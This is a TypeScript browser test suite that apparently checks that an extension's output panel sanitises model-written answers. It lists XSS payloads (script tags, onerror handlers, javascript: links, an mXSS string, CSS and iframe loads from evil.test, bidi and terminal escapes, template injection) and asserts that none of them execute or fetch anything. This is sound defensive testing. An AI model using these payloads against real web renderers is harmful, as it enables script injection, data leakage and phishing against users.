import assert from 'node:assert/strict';
import { join } from 'node:path';
import { build } from 'esbuild';
import type { Browser } from 'playwright-core';
import { outputFormats } from '../../client/model.ts';
import type { OutputsContract } from '../../client/panels/protocol.ts';
import { launchBrowser } from '../support/browser.ts';
import { detail, outputsHost, rows } from '../support/outputStates.ts';
import { PageStage } from '../support/pageStage.ts';
import { root } from '../support/paths.ts';

/** What a model may be talked into writing. `attack()` is there to be called. */
const attacks = [
  '<script>attack()</script>',
  '<img src=x onerror="attack()">',
  '<img src="https://evil.test/pixel.png">',
  '![pixel](https://evil.test/pixel.png)',
  '<svg onload=attack()><circle/></svg>',
  '<svg><a xlink:href="javascript:attack()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<object data="https://evil.test/"></object><embed src="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/a.css">',
  '<style>@import "https://evil.test/a.css"; * { background: url(https://evil.test/b) }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test/c)">over everything</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/"><input name=key><button formaction="javascript:attack()">ok</button></form>',
  '<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video>',
  '<a href="javascript:attack()">click</a> [click](javascript:attack())',
  '<a href="data:text/html,<script>attack()</script>">x</a> [x](data:text/html,1)',
  '[quit](command:workbench.action.quit) [host](vscode://evil.ext/run) <command:x>',
  '[bank](https://bank.example@evil.test/)',
  '<details open ontoggle=attack()>x</details>',
  '<div id="getElementById" name="cookie"><output-detail id=x></output-detail></div>',
  '<vscode-button onclick="attack()">press</vscode-button>',
  '<template><img src=x onerror=attack()></template><noscript><p title="</noscript><img src=x onerror=attack()>">',
  'user\u202eresu\u202c \u2066\u2067 \u0000\u0007\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007',
  `${'<div>'.repeat(600)}deep`,
  `${'> '.repeat(300)}${'[a]('.repeat(300)}${'*'.repeat(3000)}`,
  '${attack()} {{constructor.constructor("attack()")()}} `+attack()+`',
];

const forbidden =
  'script, img, iframe, object, embed, link, style, svg, math, form, input, video, audio, base, meta, ' +
  'template, [style], [id], [name], [srcset], [src], vscode-button, output-detail';

interface Findings {
  readonly attacked: boolean;
  readonly elements: string[];
  readonly handlers: string[];
  readonly links: string[];
}

/** Runs in the page. */
function inspect(forbiddenSelector: string): Findings {
  const answer = document.querySelector('.answer, #subject')!;
  const all = [...answer.querySelectorAll('*')];
  const attributes = all.flatMap((element) => [...element.attributes]);
  return {
    attacked: (window as unknown as { attacked?: boolean }).attacked === true,
    elements: [...answer.querySelectorAll(forbiddenSelector)].map((element) => element.outerHTML),
    handlers: attributes.filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
    links: attributes.filter(({ name }) => name.endsWith('href')).map(({ value }) => value),
  };
}

const harmless = { attacked: false, elements: [], handlers: [] };

describe('An answer that attacks', () => {
  let browser: Browser;

  before(async () => {
    browser = await launchBrowser(console.log);
  });
  after(() => browser.close());

  async function stageAnswer(format: (typeof outputFormats)[number], text: string) {
    const shown = detail('output-2', { format, text });
    const stage = await PageStage.open<OutputsContract>(browser, {
      page: 'outputs',
      handlers: outputsHost(rows(5), shown),
    });
    const requested: string[] = [];
    stage.page.on('request', (request) => requested.push(request.url()));
    await stage.page.evaluate(() => {
      Object.assign(window, { attack: () => Object.assign(window, { attacked: true }) });
    });
    await stage.page.locator('.answer').waitFor();
    await stage.settled();
    return { requested, stage };
  }

  for (const format of outputFormats) {
    it(`shows as ${format} without anything of it coming alive`, async () => {
      const { requested, stage } = await stageAnswer(format, attacks.join('\n\n'));
      const { links, ...found } = await stage.page.evaluate(inspect, forbidden);
      assert.deepEqual(found, harmless);
      assert.deepEqual(
        links.filter((link) => !/^https?:/.test(link)),
        [],
      );
      assert.deepEqual(
        requested.filter((url) => !url.startsWith('http://stage.test/')),
        [],
      );
      assert.deepEqual(stage.complaints, []);
      await stage.close();
    });
  }

  it('shows its text whole, with controls made visible', async () => {
    const { stage } = await stageAnswer('text', attacks.join('\n'));
    const text = (await stage.page.locator('.answer').innerText()).replaceAll('\n', '');
    assert.ok(text.includes('<script>attack()</script><img src=x onerror="attack()">'));
    assert.ok(text.includes('user‹U+202E›resu‹U+202C›'));
    await stage.close();
  });

  it('streams in harmlessly, cut at any place', async () => {
    const shown = detail('output-0', { status: 'processing', text: '' });
    const stage = await PageStage.open<OutputsContract>(browser, {
      page: 'outputs',
      handlers: outputsHost(rows(5), shown),
    });
    await stage.page.locator('.answer').waitFor({ state: 'attached' });
    await stage.settled();
    const whole = attacks.filter((attack) => attack.length < 400).join('\n\n');
    for (let offset = 0; offset < whole.length; offset += 37) {
      stage.host.emit('text', { id: 'output-0', offset, text: whole.slice(offset, offset + 37) });
    }
    await stage.settled();
    const { links, ...found } = await stage.page.evaluate(inspect, forbidden);
    assert.deepEqual(found, harmless);
    assert.deepEqual(
      links.filter((link) => !/^https?:/.test(link)),
      [],
    );
    assert.deepEqual(stage.complaints, []);
    await stage.close();
  });

  it('is stopped by the second wall alone, should the first ever fall', async () => {
    const bundle = await build({
      entryPoints: [join(root, 'media/shared/sanitise.ts')],
      bundle: true,
      write: false,
      format: 'iife',
      globalName: 'subject',
    });
    const page = await browser.newPage();
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    await page.setContent('<div id="subject"></div>');
    await page.evaluate(() => {
      Object.assign(window, { attack: () => Object.assign(window, { attacked: true }) });
    });
    await page.evaluate(`${bundle.outputFiles[0]!.text}; window.subject = subject`);
    for (const attack of attacks) {
      await page.evaluate((html) => {
        const { subject } = window as unknown as {
          subject: { sanitise(html: string): DocumentFragment };
        };
        document.querySelector('#subject')!.replaceChildren(subject.sanitise(html));
      }, attack);
      const { links, ...found } = await page.evaluate(inspect, forbidden);
      assert.deepEqual(found, harmless, attack);
      assert.deepEqual(
        links.filter((link) => !/^https?:/.test(link)),
        [],
        attack,
      );
    }
    assert.deepEqual(requested, []);
    await page.close();
  });
});
